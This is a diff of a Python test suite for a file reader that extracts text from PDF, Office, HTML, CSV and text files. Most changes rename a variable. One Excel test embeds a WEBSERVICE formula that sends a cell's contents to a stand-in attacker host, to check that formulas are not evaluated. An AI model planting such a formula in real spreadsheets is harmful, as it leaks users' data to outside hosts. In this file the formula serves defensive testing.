@@ -47,16 +47,16 @@ async def refusal(content: bytes, name: str = "file", limits: EvidenceLimits = L
 
 
 async def test_a_pdf_is_read_by_page() -> None:
-    found = await read(a_pdf(["The queue took 2,000 jobs/s.", "It costs (about) $960.\nSecond."]))
-    assert marked(found) == [
+    text = await read(a_pdf(["The queue took 2,000 jobs/s.", "It costs (about) $960.\nSecond."]))
+    assert marked(text) == [
         ("page 1", "The queue took 2,000 jobs/s."),
         ("page 2", "It costs (about) $960.\nSecond."),
     ]
 
 
 async def test_word_is_read_by_section_with_tables() -> None:
-    found = await read(a_word_file())
-    assert marked(found) == [
+    text = await read(a_word_file())
+    assert marked(text) == [
         ("beginning", "Prepared for the platform team."),
         (
             "section “Cost”",
@@ -67,56 +67,56 @@ async def test_word_is_read_by_section_with_tables() -> None:
 
 
 async def test_excel_is_read_by_sheet_and_row_with_values_not_formulas() -> None:
-    found = await read(an_excel_file('=WEBSERVICE("https://evil.test/?"&B2)'))
-    assert marked(found) == [
+    text = await read(an_excel_file('=WEBSERVICE("https://evil.test/?"&B2)'))
+    assert marked(text) == [
         ("sheet Load", "Month | Jobs\nMarch | 2000\nApril | 2500.5\n | 24000"),
         ("sheet Notes", "Peak on Mondays"),
     ]
     # The n-th line of a sheet is its row n.
-    notes = found.text.split("\n")[found.marks[1].line - 1 :]
+    notes = text.text.split("\n")[text.marks[1].line - 1 :]
     assert notes[4] == "Peak on Mondays"
 
 
 async def test_powerpoint_is_read_by_slide_with_notes() -> None:
-    found = await read(a_powerpoint_file())
-    assert [label for label, _ in marked(found)] == ["slide 1", "slide 2"]
-    assert "Two brokers, one region" in found.text
-    assert "Say that it is slow." in found.text
+    text = await read(a_powerpoint_file())
+    assert [label for label, _ in marked(text)] == ["slide 1", "slide 2"]
+    assert "Two brokers, one region" in text.text
+    assert "Say that it is slow." in text.text
 
 
 async def test_html_is_read_without_scripts() -> None:
     page = b"""<!doctype html><html><head><title>x</title><style>p{}</style></head><body>
     <h1>Load</h1><p>Took <b>2,000</b>\njobs.</p><script>alert('no')</script>
     <ul><li>one<li>two</ul><table><tr><td>a</td><td>b</td></tr></table>&lt;b&gt;</body>"""
-    found = await read(page, "page.html")
-    assert found.text.startswith("# Load\n\nTook **2,000** jobs.")
-    assert "- one\n" in found.text
-    assert "alert" not in found.text
-    assert "<b>" in found.text
+    text = await read(page, "page.html")
+    assert text.text.startswith("# Load\n\nTook **2,000** jobs.")
+    assert "- one\n" in text.text
+    assert "alert" not in text.text
+    assert "<b>" in text.text
 
 
 async def test_the_first_line_of_csv_heads_it_and_rows_are_counted() -> None:
-    found = await read(b"month,jobs\nMarch,2000\n", "load.csv")
-    assert found.text == "# month,jobs\nMarch,2000"
-    assert found.marks[0].counts == "row"
+    text = await read(b"month,jobs\nMarch,2000\n", "load.csv")
+    assert text.text == "# month,jobs\nMarch,2000"
+    assert text.marks[0].counts == "row"
 
 
 @pytest.mark.parametrize("encoding", ["utf-8", "utf-8-sig", "utf-16", "utf-32"])
 async def test_text_is_read_in_any_unicode_encoding(encoding: str) -> None:
-    found = await read("Größe: 5 €\n".encode(encoding), "a.txt")
-    assert found.text.strip() == "Größe: 5 €"
-    assert not found.warnings
+    text = await read("Größe: 5 €\n".encode(encoding), "a.txt")
+    assert text.text.strip() == "Größe: 5 €"
+    assert not text.warnings
 
 
 async def test_older_encodings_are_guessed_and_said() -> None:
-    found = await read("Größe: 5 €".encode("cp1252"), "a.txt")
-    assert found.text == "Größe: 5 €"
-    assert "Windows-1252" in found.warnings[0]
+    text = await read("Größe: 5 €".encode("cp1252"), "a.txt")
+    assert text.text == "Größe: 5 €"
+    assert "Windows-1252" in text.warnings[0]
 
 
 async def test_secrets_are_redacted_and_invisible_signs_left_out() -> None:
-    found = await read("key sk-proj-abcdefghijklmnop1234567890 a\u200bb\u202e".encode())
-    assert found.text == "key [redacted] ab"
+    text = await read("key sk-proj-abcdefghijklmnop1234567890 a\u200bb\u202e".encode())
+    assert text.text == "key [redacted] ab"
 
 
 async def test_a_name_does_not_decide_what_a_file_is() -> None:
@@ -199,15 +199,15 @@ async def test_a_locked_pdf_is_refused_and_an_open_encrypted_one_read() -> None:
 
 
 async def test_only_so_many_pages_are_read() -> None:
-    found = await read(a_pdf([f"Page {n}" for n in range(5000)]))
-    assert found.marks[-1].label == "page 500"
-    assert found.warnings == ("only the first 500 of 5,000 pages were read",)
+    text = await read(a_pdf([f"Page {n}" for n in range(5000)]))
+    assert text.marks[-1].label == "page 500"
+    assert text.warnings == ("only the first 500 of 5,000 pages were read",)
 
 
 async def test_only_so_many_characters_are_kept() -> None:
-    found = await read(b"word " * 1000, limits=EvidenceLimits(characters=100))
-    assert len(found.text) == 100
-    assert found.warnings == ("only the first 100 characters were read",)
+    text = await read(b"word " * 1000, limits=EvidenceLimits(characters=100))
+    assert len(text.text) == 100
+    assert text.warnings == ("only the first 100 characters were read",)
 
 
 async def test_a_file_that_is_too_large_is_refused_unread() -> None:
@@ -265,13 +265,15 @@ def readers_running() -> list[str]:
     """The reading processes that this one has started and that still run (Linux)."""
     listed = Path(f"/proc/self/task/{os.getpid()}/children")
     children = listed.read_text(encoding="ascii").split() if listed.exists() else []
-    return [one for one in children if b"in_sandbox" in Path(f"/proc/{one}/cmdline").read_bytes()]
+    return [
+        child for child in children if b"in_sandbox" in Path(f"/proc/{child}/cmdline").read_bytes()
+    ]
 
 
 async def test_the_reading_process_sees_no_secret(monkeypatch: pytest.MonkeyPatch) -> None:
     monkeypatch.setenv("SLACK_BOT_TOKEN", "xoxb-of-ours")
-    found = await read(b"plain")
-    assert found.text == "plain"
+    text = await read(b"plain")
+    assert text.text == "plain"
 
 
 async def test_where_no_process_can_be_started_one_file_fails_in_words() -> None:
